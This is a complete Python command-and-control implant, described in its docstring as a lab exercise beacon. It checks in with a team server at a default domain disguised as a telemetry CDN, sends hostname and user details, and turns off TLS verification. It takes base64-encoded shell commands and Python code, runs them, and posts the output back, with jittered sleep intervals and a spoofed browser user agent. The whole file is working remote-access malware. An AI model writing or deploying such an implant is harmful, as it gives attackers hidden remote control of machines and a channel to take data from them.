#!/usr/bin/env python3
"""Exercise beacon agent ("lab implant").

Checks in with the team server at a jittered interval, receives base64
encoded tasks, executes them and posts the output back.
"""
import base64
import json
import logging
import os
import platform
import random
import socket
import ssl
import subprocess
import sys
import time
import urllib.request
import uuid

log = logging.getLogger("agent")

CFG = {
    "server": os.environ.get("TS_URL", "https://cdn-edge-telemetry.net"),
    "checkin": "/api/v1/status",
    "result": "/api/v1/metrics",
    "sleep": 30,
    "jitter": 0.3,
    "ua": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
}

AGENT_ID = uuid.uuid5(uuid.NAMESPACE_DNS, socket.gethostname() + str(uuid.getnode())).hex


def _ctx():
    c = ssl.create_default_context()
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    return c


def _http(path: str, payload: dict) -> dict:
    data = json.dumps(payload).encode()
    req = urllib.request.Request(CFG["server"] + path, data=data, method="POST",
                                 headers={"User-Agent": CFG["ua"],
                                          "Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30, context=_ctx()) as r:
        body = r.read()
    return json.loads(body) if body else {}


def host_info() -> dict:
    return {
        "id": AGENT_ID,
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "?"),
        "os": platform.platform(),
        "pid": os.getpid(),
    }


def run_task(task: dict) -> dict:
    kind = task.get("type", "shell")
    try:
        if kind == "shell":
            cmd = base64.b64decode(task["data"]).decode()
            cp = subprocess.run(cmd, shell=True, capture_output=True, timeout=task.get("timeout", 120))
            out = cp.stdout + cp.stderr
            rc = cp.returncode
        elif kind == "py":
            src = base64.b64decode(task["data"]).decode()
            scope = {}
            exec(compile(src, "<task>", "exec"), scope)
            out, rc = str(scope.get("result", "")).encode(), 0
        elif kind == "sleep":
            CFG["sleep"] = int(task["data"])
            out, rc = b"sleep updated", 0
        elif kind == "exit":
            raise SystemExit(0)
        else:
            out, rc = b"unknown task", 1
    except subprocess.TimeoutExpired:
        out, rc = b"timeout", 124
    except Exception as exc:  # keep the agent alive whatever the task does
        out, rc = repr(exc).encode(), 1
    return {"id": AGENT_ID, "task": task.get("tid"), "rc": rc,
            "out": base64.b64encode(out).decode()}


def interval() -> float:
    s, j = CFG["sleep"], CFG["jitter"]
    return s * random.uniform(1 - j, 1 + j)


def loop():
    info = host_info()
    failures = 0
    while True:
        try:
            resp = _http(CFG["checkin"], info)
            failures = 0
            for task in resp.get("tasks", []):
                result = run_task(task)
                _http(CFG["result"], result)
        except SystemExit:
            raise
        except Exception as exc:
            failures += 1
            log.debug("check-in failed (%d): %s", failures, exc)
            if failures > 50:
                time.sleep(600)
        time.sleep(interval())


def main():
    logging.basicConfig(level=logging.DEBUG if "-v" in sys.argv else logging.WARNING)
    if "--once" in sys.argv:
        resp = _http(CFG["checkin"], host_info())
        for task in resp.get("tasks", []):
            _http(CFG["result"], run_task(task))
        return
    loop()


if __name__ == "__main__":
    main()
